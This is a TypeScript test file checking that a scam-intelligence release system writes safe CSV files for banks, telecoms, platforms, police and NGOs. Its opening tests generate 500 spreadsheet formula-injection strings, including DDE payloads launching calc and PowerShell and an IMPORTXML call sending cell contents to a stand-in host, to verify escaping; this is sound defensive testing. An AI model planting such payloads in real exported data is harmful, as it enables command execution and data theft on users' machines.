import { describe, expect, it } from 'vitest'
import type { PatternPayload } from '#core/pattern/payload.ts'
import { globalSignalExchangeFormat } from '#core/release/csv/global-signal-exchange.ts'
import { indicatorsCsvFormat } from '#core/release/csv/indicators.ts'
import { patternsCsvFormat } from '#core/release/csv/patterns.ts'
import { sectorCsvFormats } from '#core/release/csv/sectors.ts'
import { csvText } from '#core/release/csv/table.ts'
import type { ReleaseFormat } from '#core/release/format.ts'
import { formulaSafe, fromFormulaSafe } from '#core/release/formula-safe.ts'
import { sectors } from '#core/release/sectors.ts'
import { wholeRelease } from '#core/release/whole-file.ts'
import { parseCsv } from '#tests/support/parse-csv.ts'
import { fc } from '#tests/support/property.ts'
import { indicatorOf, oneOfEach, payloadOf, releaseOf } from '#tests/support/release-input.ts'

/** 500 strings that spreadsheets have been made to run, disguised in the usual ways. */
const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '|', '%']
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example","y")',
  "SUM(1+9)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  "2+5+cmd|' /C powershell'!A0",
]
const disguises = ['', ' ', '"', "'", '"" ', '\u200b', '\ufeff', '\u00a0', ' \'"']
const hostile = triggers
  .flatMap((trigger) =>
    payloads.flatMap((payload) => disguises.map((disguise) => disguise + trigger + payload)),
  )
  .slice(0, 500)

/** What a spreadsheet is left with when it drops blanks and quotes before a cell. */
const isFormula = (cell: string) =>
  !cell.startsWith("'") && /^["\s\u200b\ufeff]*[=+\-@＝＋－＠]/.test(cell)

describe('CSV cells', () => {
  it('never start a formula and read back as the same text, for 500 hostile strings', () => {
    expect(hostile).toHaveLength(500)
    for (const text of hostile) {
      const [[cell = ''] = []] = parseCsv(csvText([[text, 'end']]))
      expect(isFormula(cell), JSON.stringify(text)).toBe(false)
      expect(fromFormulaSafe(cell)).toBe(text)
    }
  })

  it('do so for any strings, row by row', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }).filter((text) => !/\p{Surrogate}/u.test(text)),
      fc.string({
        unit: fc.constantFrom('=', '+', '-', '@', '"', "'", ',', '\r', '\n', '\t', ' ', 'a'),
      }),
    )
    const rows = fc.array(fc.tuple(cell, cell, cell), { minLength: 1 })
    fc.assert(
      fc.property(rows, (table) => {
        const text = csvText(table)
        const read = parseCsv(text)
        expect(read.map((row) => row.map(fromFormulaSafe))).toEqual(table)
        for (const one of read.flat()) expect(isFormula(one)).toBe(false)
      }),
      { numRuns: 500 },
    )
  })

  it('stay as they are when they are harmless', () => {
    for (const text of ['Chat support', '3-9 tips', 'a=b', "O'Neill", '', ' a', '2026-W47'])
      expect(formulaSafe(text)).toBe(text)
  })

  it('get back every text from its safe form', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", '"', '=', '+', ' ', 'a', '\t') }),
        (text) => {
          expect(fromFormulaSafe(formulaSafe(text))).toBe(text)
        },
      ),
    )
  })
})

describe('the CSV files of a release', () => {
  it('start with a byte order mark and end lines with CR LF', () => {
    const text = wholeRelease(patternsCsvFormat, releaseOf())
    expect(text.startsWith('\ufeffnumber,version,status')).toBe(true)
    expect(text.endsWith('\r\n')).toBe(true)
  })

  it('hold one line per pattern, with bands that no spreadsheet takes for a date', () => {
    const [header = [], row = []] = parseCsv(wholeRelease(patternsCsvFormat, releaseOf()))
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i]]))
    expect(cells).toMatchObject({
      number: 'P-0012',
      tlp: 'TLP:AMBER',
      tips: '10-49 tips',
      attributes: 'visa=tourist (3-9)',
      countries: 'reported_from TH (10-49); destination KH (3-9); destination KH-1 (3-9)',
      money: 'USD 10000 to 100000 (3-9)',
      actions: 'telecom: number_blocked',
      summary: 'Adverts promise office work.\nPeople are driven across a border at night.',
    })
  })

  it('hold one line per indicator, and a telephone number stays a text', () => {
    const rows = parseCsv(wholeRelease(indicatorsCsvFormat, releaseOf()))
    expect(rows).toHaveLength(oneOfEach.length + 1)
    expect(rows.find(([type]) => type === 'phone')?.[1]).toBe("'+85512345678")
  })

  it('survive a hostile title, summary and indicator', () => {
    const evil = '=HYPERLINK("http://x.example","a")\n=1+1,"'
    const release = releaseOf([
      payloadOf({ title: evil, summary: evil, indicators: [indicatorOf('domain', '@SUM(1)')] }),
    ])
    for (const text of [patternsCsvFormat, indicatorsCsvFormat].map((one) =>
      wholeRelease(one, release),
    ))
      for (const cell of parseCsv(text).flat()) expect(isFormula(cell)).toBe(false)
    expect(parseCsv(wholeRelease(patternsCsvFormat, release))[1]?.map(fromFormulaSafe)).toContain(
      evil,
    )
  })
})

const tableOf = (format: ReleaseFormat, payloads = [payloadOf()], before?: PatternPayload) => {
  const release = releaseOf(payloads)
  const patterns = release.patterns.map((one) => ({ ...one, before }))
  const [header = [], ...rows] = parseCsv(wholeRelease(format, { ...release, patterns }))
  return rows.map((row) =>
    Object.fromEntries(header.map((name, at) => [name, fromFormulaSafe(row[at] ?? '')])),
  )
}

describe('the CSV file of a sector', () => {
  it.each(sectors)('has for %s what its people act on, each with what to do', (sector) => {
    const rows = tableOf(sectorCsvFormats[sector])
    expect(rows.length).toBeGreaterThan(0)
    for (const row of rows) {
      expect(row).toMatchObject({ status: 'new', pattern: 'P-0012', tlp: 'TLP:AMBER' })
      expect(row.recommended_action).toMatch(/^(be_aware|[a-z]+_[a-z]+)$/)
      expect(row.confidence_score).toMatch(/^\d+$/)
    }
  })

  it('gives a bank the account, a telecom the number, and a platform the account', () => {
    expect(tableOf(sectorCsvFormats.finance)).toContainEqual(
      expect.objectContaining({ account_number: '1234567890', account_country: 'TH', iban: '' }),
    )
    expect(tableOf(sectorCsvFormats.finance)).toContainEqual(
      expect.objectContaining({ iban: 'GB29NWBK60161331926819', account_country: 'GB' }),
    )
    const indicators = [
      indicatorOf('phone', '+447400123456'),
      indicatorOf('handle', 'whatsapp:+66812345678'),
      indicatorOf('handle', 'telegram:best_jobs'),
    ]
    expect(tableOf(sectorCsvFormats.telecom, [payloadOf({ indicators })])).toEqual([
      expect.objectContaining({
        recommended_action: 'number_blocked',
        number: '+447400123456',
        country: 'GB',
        line_type: 'mobile',
        used_as: 'telephone',
      }),
      expect.objectContaining({
        recommended_action: 'be_aware',
        number: '+66812345678',
        country: 'TH',
        used_as: 'whatsapp',
      }),
    ])
    expect(tableOf(sectorCsvFormats.platform)).toContainEqual(
      expect.objectContaining({ account_platform: 'telegram', account: 'best_jobs' }),
    )
  })

  it('asks of an organisation that helps people what the pattern asks of it, for each line', () => {
    const actions = [{ sector: 'ngo' as const, recommended: ['person_assisted' as const] }]
    const rows = tableOf(sectorCsvFormats.ngo, [payloadOf({ actions })])
    expect(new Set(rows.map((row) => row.recommended_action))).toEqual(new Set(['person_assisted']))
  })

  it('says what to stop using: all of a revoked pattern, and what a version does not name', () => {
    const revoked = payloadOf({ status: 'revoked', revocation: 'error', actions: [] })
    for (const row of tableOf(sectorCsvFormats.police, [revoked]))
      expect(row).toMatchObject({ recommended_action: 'stop_using', status: 'revoked' })
    const [one, two] = [indicatorOf('phone', '+85512345678'), indicatorOf('phone', '+85587654321')]
    const amended = payloadOf({ status: 'amended', version: 2, indicators: [two] })
    const rows = tableOf(sectorCsvFormats.telecom, [amended], payloadOf({ indicators: [one, two] }))
    expect(rows.map(({ number, status }) => `${number} ${status}`)).toEqual([
      '+85587654321 amended',
      '+85512345678 revoked',
    ])
  })
})

describe('the columns of the Global Signal Exchange', () => {
  it('are filled for what may be handed on', () => {
    const url = indicatorOf('url', 'https://scam.example/')
    const rows = tableOf(globalSignalExchangeFormat, [
      payloadOf({ number: 1, tlp: 'green', indicators: [url] }),
      payloadOf({ number: 2, tlp: 'amber', indicators: [url] }),
      payloadOf({ number: 3, tlp: 'clear', status: 'revoked', indicators: [url] }),
    ])
    expect(rows).toHaveLength(2)
    expect(rows[0]).toEqual({
      signal: 'https://scam.example/',
      report_date: '2026-11-09 00:00:00',
      abuse_type: 'scam',
      predictive: '0',
      confidence_score: '85',
      signal_type: 'url',
      extra_data: expect.stringContaining('"pattern":"P-0001"'),
    })
    expect(rows[1]).toMatchObject({
      confidence_score: '0',
      extra_data: expect.stringContaining('"status":"revoked"'),
    })
  })
})
